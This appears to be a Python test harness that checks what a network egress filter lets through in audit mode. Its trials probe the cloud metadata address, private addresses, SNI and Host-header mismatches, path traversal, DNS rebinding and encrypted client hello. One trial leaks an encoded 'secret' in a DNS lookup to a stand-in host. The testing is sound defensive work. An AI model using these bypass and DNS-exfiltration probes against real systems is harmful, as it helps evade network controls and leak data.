"""Attempts under audit mode: what nobody decided goes out, and nothing else does."""

import json
import socket

from . import dns, hellos
from .attempts import reason
from .protocols import datagram
from .wire import EVIL, EVIL_NAME, ask, connect, request, tls

OPEN_ADDRESS = "93.184.216.250"  # of no rule
TRIALS = {}


def trial(function):
    TRIALS[function.__name__] = function
    return function


def _https(host, **more):
    return ask(tls(host, **more), request(host))


def _http(host):
    return ask(connect(host, 80), request(host))


@trial
def unknown_by_tls():
    return _https("tls.unknown.example")


@trial
def unknown_in_the_clear():
    return _http("clear.unknown.example")


@trial
def unknown_server_first():
    return connect("first.unknown.example", 22).recv(100).decode()


@trial
def unknown_address():
    return _http(OPEN_ADDRESS)


@trial
def waiting_by_default():
    return _https("tls.waiting.example")


@trial
def method_nobody_decided():
    return ask(tls("method.reading.example"), request("method.reading.example", "/echo", "POST", "Content-Length: 0"))


@trial
def allowed():
    return _https("tls.allowed.example")


@trial
def denied():
    return _https(EVIL_NAME)


@trial
def denied_in_the_clear():
    return _http(EVIL_NAME)


@trial
def denied_server_first():
    return connect(EVIL_NAME, 22).recv(100).decode()


@trial
def asked_about():
    return _https("tls.reviewed.example")


@trial
def denied_address():
    return ask(tls(EVIL, None), request(EVIL))


@trial
def unknown_at_a_denied_address():
    return _https("elsewhere.hidden.example")


@trial
def unknown_at_a_private_address():
    return _https("private.inside.example")


@trial
def unknown_in_the_clear_at_a_private_address():
    return _http("private.inside.example")


@trial
def unknown_at_the_metadata_address():
    return connect("metadata.inside.example", 22).recv(100).decode()


@trial
def unknown_that_rebinds_to_loopback():
    return [_https("turns.rebinding.example") for _ in range(2)]


@trial
def private_address():
    return _http("10.0.0.1")


@trial
def metadata_address():
    return _http("169.254.169.254")


@trial
def another_sni():
    return ask(tls("sni.unknown.example", EVIL_NAME), request(EVIL_NAME))


@trial
def another_unknown_sni():
    return ask(tls("sni.unknown.example", "other.unknown.example"), request("other.unknown.example"))


@trial
def another_host():
    return ask(tls("host.unknown.example"), request("other.unknown.example"))


@trial
def another_host_in_the_clear():
    return ask(connect("host.unknown.example", 80), request("other.unknown.example"))


@trial
def no_sni():
    return ask(tls("sni.unknown.example", None), request("sni.unknown.example"))


@trial
def invalid_sni():
    return ask(tls("sni.unknown.example", "2130706433"), request("sni.unknown.example"))


@trial
def two_hosts():
    return ask(tls("host.unknown.example"), request("host.unknown.example", "/echo", "GET", f"Host: {EVIL_NAME}"))


@trial
def climbing_path():
    return ask(tls("host.unknown.example"), request("host.unknown.example", "/a/..%2f..%2fecho"))


@trial
def hidden_hello():
    return _https("ech.spliced.example", rewrite=hellos.with_encrypted_client_hello)


@trial
def udp():
    return datagram(socket.gethostbyname("udp.unknown.example"), 9999)


@trial
def quic():
    return datagram(socket.gethostbyname("quic.unknown.example"), 443)


@trial
def text_record():
    return dns.over_udp("c2VjcmV0.unknown.example", dns.TYPES["TXT"], "8.8.8.8")


@trial
def lookup_of_data():
    return dns.over_udp("c2VjcmV0.unknown.example", 1, "8.8.8.8")


def tried(function):
    try:
        return function()
    except OSError as error:
        return {"error": reason(error)}


def marked(name):
    """Try it between two lookups that say which attempt this is."""
    socket.gethostbyname(f"begin--{name.replace('_', '-')}.mark.example")
    try:
        return tried(TRIALS[name])
    finally:
        socket.gethostbyname(f"end--{name.replace('_', '-')}.mark.example")


if __name__ == "__main__":
    print(json.dumps({name: marked(name) for name in TRIALS}))
